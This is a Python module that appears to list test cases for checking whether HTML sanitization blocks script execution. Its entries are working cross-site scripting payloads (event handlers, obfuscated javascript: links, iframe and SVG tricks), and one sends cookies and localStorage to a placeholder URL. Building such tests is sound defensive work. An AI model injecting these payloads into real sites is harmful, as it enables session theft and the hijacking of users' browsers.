"""HTML whose elements and attributes run a script."""

from .case import Case

CASES = [
    Case("script", "<script>@ACT@</script>"),
    Case("script-src", "<script src='@URL@'></script>"),
    Case("script-module", "<script type=module>@ACT@</script>"),
    Case("img-onerror", '<img src="data:," onerror="@ACT@">'),
    Case("svg-onload", '<svg onload="@ACT@"><circle r="9"/></svg>'),
    Case("details-toggle", '<details open ontoggle="@ACT@"><summary>Work</summary>text</details>'),
    Case("autofocus", '<input autofocus onfocus="@ACT@">'),
    Case("focus-anything", '<p contenteditable tabindex=1 autofocus onfocus="@ACT@">Click here</p>'),
    Case("animation", '<style>@keyframes a{}</style><p style="animation:a 1s" onanimationstart="@ACT@">Work</p>'),
    Case("svg-animate", '<svg><animate onbegin="@ACT@" attributeName="x" dur="1s"/></svg>'),
    Case("video-error", '<video><source src="data:," onerror="@ACT@"></video>'),
    Case("over", '<b onclick="@ACT@" id="@NAME@">Click for your points</b>'),
    Case("javascript-link", '<a id="@NAME@" href="javascript:@ACT@">Your points</a>'),
    Case("javascript-link-hidden", '<a id="@NAME@" href="&#x01;java&Tab;script&colon;@ACT@">Your points</a>'),
    Case(
        "javascript-link-svg", '<svg><a id="@NAME@" xlink:href="javascript:@ACT@"><text y="9">points</text></a></svg>'
    ),
    Case("javascript-area", '<map name="m"><area id="@NAME@" shape="default" href="javascript:@ACT@"></map>'),
    Case("button-formaction", '<form><button id="@NAME@" formaction="javascript:@ACT@">Save</button></form>'),
    Case("iframe-javascript", '<iframe src="javascript:@ACT@"></iframe>'),
    Case("iframe-srcdoc", '<iframe srcdoc="<script>@ACT@</script>"></iframe>'),
    Case("iframe-data", '<iframe src="data:text/html,<script>@ACT@</script>"></iframe>'),
    Case("object-data", '<object data="data:text/html,<script>@ACT@</script>"></object>'),
    Case(
        "embed-svg",
        '<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'><script>@ACT@</script></svg>">',
    ),
    Case("shadow-root", "<div><template shadowrootmode=open><img src='data:,' onerror=\"@ACT@\"></template></div>"),
    Case(
        "cookies",
        "<script>new Image().src='@URL@?'+encodeURIComponent(document.cookie+JSON.stringify(localStorage))</script>",
    ),
    Case("popup", "<script>window.open('@URL@')</script>"),
    Case("opener", "<script>if(window.opener){opener.location='@URL@'}else{top.location='@URL@'}</script>"),
    Case(
        "post-message",
        "<script>for(const w of [top,parent,opener])w&&w.postMessage({beacon:'@NAME@'},'*');@ACT@</script>",
    ),
    Case(
        "service-worker",
        "<script>navigator.serviceWorker.register('files/submitted/sw.js').finally(()=>{@ACT@})</script>",
    ),
    Case("worker", "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('@URL@',{mode:'no-cors'})\"])))</script>"),
    Case("web-socket", "<script>new WebSocket('@URL@'.replace('http','ws'))</script>"),
    Case("web-rtc", "<script>new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:9'}]});@ACT@</script>"),
]
